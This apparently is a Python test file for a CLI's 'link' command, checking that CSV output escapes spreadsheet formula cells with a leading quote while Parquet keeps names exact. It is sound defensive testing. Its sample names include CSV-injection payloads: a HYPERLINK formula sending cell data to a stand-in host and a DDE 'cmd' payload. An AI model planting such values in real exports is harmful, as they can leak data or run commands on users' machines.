"""`pearl link --out FILE.csv` writes no cell a spreadsheet would run as a formula (issue 54, item 4;
OWASP's CSV injection advice: a leading ' on cells that start with =, +, -, @, a tab or a carriage
return); Parquet keeps the names exact."""
from __future__ import annotations

import string

import pyarrow as pa
import pyarrow.csv as pacsv
import pyarrow.parquet as pq
import pytest

pytest.importorskip("torch")
from typer.testing import CliRunner  # noqa: E402

from pearl_cli.main import app  # noqa: E402
from tests.conftest import tiny_model_dir  # noqa: E402

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
         "\tplum", "\rkiwi", "pear", "a=b", "'quoted"]
SAFE = ["'" + n for n in NAMES[:6]] + NAMES[6:]


@pytest.fixture(scope="module")
def model_dir(tmp_path_factory):
    letters = list(string.ascii_lowercase)
    return tiny_model_dir(tmp_path_factory.mktemp("tiny-csv-model"), letters + [f"##{c}" for c in letters])


def test_a_csv_gets_a_leading_quote_on_formula_cells_and_parquet_keeps_the_names(model_dir, tmp_path):
    table = tmp_path / "names.parquet"
    pq.write_table(pa.table({"title": NAMES}), table)
    for out in (tmp_path / "m.csv", tmp_path / "m.parquet"):
        r = CliRunner().invoke(app, ["link", str(table), str(table), "--out", str(out), "--model", str(model_dir),
                                     "--backend", "torch"])
        assert r.exit_code == 0, r.output
        written = (pacsv.read_csv(out, convert_options=pacsv.ConvertOptions(
            column_types={"left": pa.string(), "right": pa.string()}, strings_can_be_null=False))
            if out.suffix == ".csv" else pq.read_table(out))
        left = dict(zip(written["left_row"].to_pylist(), written["left"].to_pylist()))
        assert left == dict(enumerate(SAFE if out.suffix == ".csv" else NAMES))
        assert set(written["right"].to_pylist()) <= set(SAFE if out.suffix == ".csv" else NAMES)
        escaped = sum(v != "'quoted" and v.startswith("'") for v in written["left"].to_pylist()
                      + written["right"].to_pylist())
        said = f"{escaped} names (cells) that start with =, +, -, @, a tab or a carriage return are written with a leading '"
        assert (said in r.stderr) == (out.suffix == ".csv"), r.stderr


def test_the_help_says_so():
    r = CliRunner().invoke(app, ["link", "--help"], env={"COLUMNS": "1000", "TERMINAL_WIDTH": "1000"})
    text = " ".join(r.output.replace("│", " ").split())  # rich wraps and frames it
    assert "with a leading ' so that a spreadsheet shows it as text" in text, text
    assert "Parquet keeps the names exact" in text
